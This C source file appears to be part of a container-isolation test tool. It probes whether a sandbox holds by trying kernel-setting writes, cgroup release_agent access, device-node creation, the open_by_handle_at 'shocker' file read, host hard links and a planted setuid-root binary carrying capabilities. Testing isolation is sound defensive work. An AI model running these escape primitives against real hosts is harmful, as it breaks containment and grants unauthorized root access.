/*
 * files: out by files that are the machine's.
 *
 *	files write FILE...	a setting of the kernel's that it can open to
 *				write, also after a remount or a new mount
 *	files agent DIR TYPE	the release agent of cgroups of version 1,
 *mounted on DIR with controller TYPE files writable DIR [EXCEPT]... any file at
 *all below DIR that it can; the process's own directories are left out files
 *read FILE...	one with the machine's secrets that shows more than /dev/null
 *does files node [PATH]	a device: made here, or found at PATH files
 *handle FILE	(outside) its handle, as words for the next files open HANDLE
 *the file behind a handle, past every path
 *				("shocker")
 *	files link FILE TO	a second name for a file of the host's
 *	files setuid FILE	this program at FILE, set-user-id root
 *	files whoami		(the host's user runs that) whose rights it
 *gives
 *
 * Nothing is written but what was there.
 */
#include "escape.h"

#include <fcntl.h>
#include <ftw.h>
#include <linux/capability.h>
#include <stdbool.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

static int last = ENOENT;

/* --- settings ------------------------------------------------------------ */

static bool can_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd >= 0) {
		close(fd);
		return true;
	}
	if (errno != ENOENT)
		last = errno;
	return false;
}

/* What a jail's root would try with a read-only /proc or /sys. */
static void loosen(void)
{
	static const char *const seen[] = {"/proc", "/proc/sys", "/sys",
					   "/sys/fs/cgroup",
					   "/proc/sysrq-trigger"};

	for (size_t i = 0; i < sizeof(seen) / sizeof(*seen); i++) {
		mount(NULL, seen[i], NULL, MS_REMOUNT | MS_BIND, NULL);
		mount(NULL, seen[i], NULL, MS_REMOUNT, NULL);
	}
}

static void write_(char **argv)
{
	static const struct {
		const char *type, *at;
	} fresh[] = {{"proc", "/proc"},
		     {"sysfs", "/sys"},
		     {"cgroup2", "/sys/fs/cgroup"},
		     {"binfmt_misc", "/proc/sys/fs/binfmt_misc"}};
	bool any = false;

	for (char **a = argv; *a; a++) {
		any |= access(*a, F_OK) == 0;
		if (can_write(*a))
			escaped("%s is open for writing", *a);
	}
	loosen();
	for (char **a = argv; *a; a++)
		if (can_write(*a))
			escaped("%s is open for writing, remounted", *a);
	for (size_t i = 0; i < sizeof(fresh) / sizeof(*fresh); i++) {
		if (mount("none", fresh[i].at, fresh[i].type, 0, NULL) < 0)
			continue;
		for (char **a = argv; *a; a++)
			if (can_write(*a))
				escaped("%s is open for writing, mounted", *a);
	}
	if (!any && last == ENOENT)
		held("not in this kernel");
	held("%s", strerror(last));
}

static void agent(char **argv)
{
	char path[512], old[256] = "";
	int fd;

	if (!argv[0] || !argv[1])
		broken("agent: DIR TYPE");
	if (mount("none", argv[0], "cgroup", 0, argv[1]) < 0)
		held("mount: %s", strerror(errno));
	snprintf(path, sizeof(path), "%s/release_agent", argv[0]);
	fd = open(path, O_RDWR | O_CLOEXEC);
	/* what is written is what is there */
	if (fd < 0 || read(fd, old, sizeof(old) - 1) < 0 ||
	    (write(fd, *old ? old : "\n", *old ? strlen(old) : 1) < 0 &&
	     errno != EINVAL)) {
		last = errno;
		umount2(argv[0], MNT_DETACH);
		held("%s: %s", path, strerror(last));
	}
	umount2(argv[0], MNT_DETACH);
	escaped("%s was written", path);
}

static char **except;
static char found[512];
static int walked;

static bool spared(const char *path)
{
	for (char **x = except; *x; x++)
		if (!strncmp(path, *x, strlen(*x)))
			return true;
	return false;
}

static int look(const char *path, const struct stat *st, int type,
		struct FTW *ftw)
{
	(void)ftw;
	if (spared(path))
		return 0;
	walked++;
	if (type == FTW_F && S_ISREG(st->st_mode) && can_write(path)) {
		snprintf(found, sizeof(found), "%s", path);
		return 1;
	}
	return 0;
}

static void writable(char **argv)
{
	if (!argv[0])
		broken("writable: no directory");
	except = argv + 1;
	loosen();
	nftw(argv[0], look, 64, FTW_PHYS);
	if (*found)
		escaped("%s is open for writing", found);
	if (walked < 10)
		broken("%s: nothing there", argv[0]);
	held("%d files", walked);
}

static void read_(char **argv)
{
	bool any = false;

	for (char **a = argv; *a; a++) {
		char c[64];
		struct stat st;
		int fd;

		any |= stat(*a, &st) == 0;
		fd = open(*a, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0) {
			last = errno;
			continue;
		}
		if (read(fd, c, sizeof(c)) > 0)
			escaped("%s can be read", *a);
		last = errno;
		close(fd);
	}
	if (!any)
		held("not in this kernel");
	held("they are empty, or: %s", strerror(last));
}

/* --- devices ------------------------------------------------------------- */

/* A disk of the machine: the first that /proc/partitions tells of. */
static dev_t disk(void)
{
	unsigned int major, minor;
	char line[256];
	FILE *f = fopen("/proc/partitions", "re");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%u %u", &major, &minor) == 2)
			return makedev(major, minor);
	return makedev(8, 0); /* not here: opening says ENXIO, if it may */
}

static void node_open(const char *path, const char *what)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	char c[512];

	if (fd < 0 && (errno == ENXIO || errno == ENODEV))
		escaped("%s: no such disk, but it was let through", what);
	if (fd < 0) {
		last = errno;
		return;
	}
	if (read(fd, c, sizeof(c)) >= 0)
		escaped("%s can be read", what);
	escaped("%s can be opened", what);
}

static void node(char **argv)
{
	const struct {
		const char *what;
		mode_t type;
		dev_t dev;
	} make[] = {
		{"the machine's disk", S_IFBLK, disk()},
		{"/dev/mem", S_IFCHR, makedev(1, 1)},
		{"/dev/port", S_IFCHR, makedev(1, 4)},
		{"/dev/kmsg", S_IFCHR, makedev(1, 11)},
		{"/dev/fuse", S_IFCHR, makedev(10, 229)},
		{"/dev/kvm", S_IFCHR, makedev(10, 232)},
	};
	static const char *const where[] = {
		"/tmp/escape.node", "/dev/escape.node", "/dev/shm/escape.node"};

	if (argv[0]) {
		node_open(argv[0], argv[0]);
		held("%s", strerror(last));
	}
	for (size_t i = 0; i < sizeof(make) / sizeof(*make); i++) {
		for (size_t k = 0; k < sizeof(where) / sizeof(*where); k++) {
			unlink(where[k]);
			if (mknod(where[k], make[i].type | 0600, make[i].dev) <
			    0) {
				last = errno;
				continue;
			}
			node_open(where[k], make[i].what);
			unlink(where[k]);
			escaped("%s: a node was made at %s", make[i].what,
				where[k]);
		}
	}
	held("%s", strerror(last));
}

/* --- handles ------------------------------------------------------------- */

#define HANDLE_MAX 128

/* Room for a handle and its bytes behind. */
static struct file_handle *handle_new(void)
{
	struct file_handle *h = calloc(1, sizeof(*h) + HANDLE_MAX);

	if (!h)
		broken("no memory");
	return h;
}

static void handle(char **argv)
{
	struct file_handle *h = handle_new();
	const unsigned char *bytes = h->f_handle;
	int mount_id;

	h->handle_bytes = HANDLE_MAX;
	if (!argv[0] ||
	    name_to_handle_at(AT_FDCWD, argv[0], h, &mount_id, 0) < 0)
		broken("name_to_handle_at: %s", strerror(errno));
	printf("%d", h->handle_type);
	for (unsigned int i = 0; i < h->handle_bytes; i++)
		printf(":%d", bytes[i]);
	printf("\n");
	exit(0);
}

static void open_(char **argv)
{
	struct file_handle *h = handle_new();
	unsigned char *bytes = h->f_handle;
	int mnt = open("/", O_RDONLY | O_DIRECTORY), fd;
	char text[64] = "";

	if (!argv[0])
		broken("open: no handle");
	h->handle_type = (int)strtol(argv[0], argv, 10);
	while (**argv == ':' && h->handle_bytes < HANDLE_MAX)
		bytes[h->handle_bytes++] =
			(unsigned char)strtol(*argv + 1, argv, 10);
	fd = open_by_handle_at(mnt, h, O_RDONLY);
	if (fd < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES))
		held("%s", strerror(errno));
	if (fd < 0)
		escaped("open_by_handle_at tries: %s", strerror(errno));
	if (read(fd, text, sizeof(text) - 1) <= 0)
		escaped("the file behind the handle is open");
	text[strcspn(text, "\n")] = '\0';
	escaped("read: %s", text);
}

/* --- what stays behind in shared directories ----------------------------- */

static void link_(char **argv)
{
	if (!argv[0] || !argv[1])
		broken("link: FILE TO");
	if (link(argv[0], argv[1]) == 0)
		escaped("%s is %s now, too", argv[1], argv[0]);
	held("%s", strerror(errno));
}

/* For whoever runs it; root of what user namespace is not said. */
static void add_caps(int fd)
{
	struct vfs_cap_data all = {
		.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
		.data = {{.permitted =
				  1U << CAP_SYS_ADMIN | 1U << CAP_NET_ADMIN}},
	};

	fsetxattr(fd, "security.capability", &all, XATTR_CAPS_SZ_2, 0);
}

static bool has_caps(void)
{
	struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct d[2] = {0};

	if (syscall(SYS_capget, &h, d) < 0)
		broken("capget: %s", strerror(errno));
	return d[0].effective || d[1].effective;
}

/* Whether that is a way out only a user of the host can tell: whoami. */
static void setuid_(char **argv)
{
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), fd;
	struct stat st;

	if (!argv[0] || self < 0 || fstat(self, &st) < 0)
		broken("setuid: %s", strerror(errno));
	fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
	if (fd < 0 ||
	    sendfile(fd, self, NULL, (size_t)st.st_size) != st.st_size ||
	    fchmod(fd, 06755) < 0)
		held("%s: %s", argv[0], strerror(errno));
	add_caps(fd);
	close(fd);
	exit(0);
}

static void whoami(char **argv)
{
	(void)argv;
	if (geteuid() == 0 || getegid() == 0)
		escaped("the host's root, by a file of the jail's");
	if (has_caps())
		escaped("capabilities, by a file of the jail's");
	held("user %d", (int)geteuid());
}

static const struct {
	const char *name;
	void (*run)(char **argv);
} attacks[] = {
	{"write", write_},  {"agent", agent}, {"writable", writable},
	{"read", read_},    {"node", node},   {"handle", handle},
	{"open", open_},    {"link", link_},  {"setuid", setuid_},
	{"whoami", whoami},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(*attacks);
	     i++)
		if (!strcmp(argv[1], attacks[i].name))
			attacks[i].run(argv + 2);
	broken("usage: see the head of files.c");
}
